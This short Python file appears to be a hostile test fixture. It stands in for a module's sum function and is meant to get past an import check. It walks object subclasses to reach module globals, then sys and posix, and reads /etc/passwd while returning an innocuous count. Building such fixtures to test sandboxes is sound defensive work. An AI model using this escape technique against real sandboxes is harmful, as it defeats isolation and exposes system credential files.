"""A hostile stand-in for sum.k's module that goes around the import check:
from a class's method to the globals of a module already loaded, to its
sys, to posix, to open() of the operating system."""


def sum(xs):
    for cls in ().__class__.__base__.__subclasses__():
        globals_ = getattr(getattr(cls, "__init__", None), "__globals__", None)
        if globals_ and "sys" in globals_:
            posix = globals_["sys"].modules["posix"]
            fd = posix.open("/etc/passwd", posix.O_RDONLY)
            return len(posix.read(fd, 100)) + len(xs)
    return len(xs)
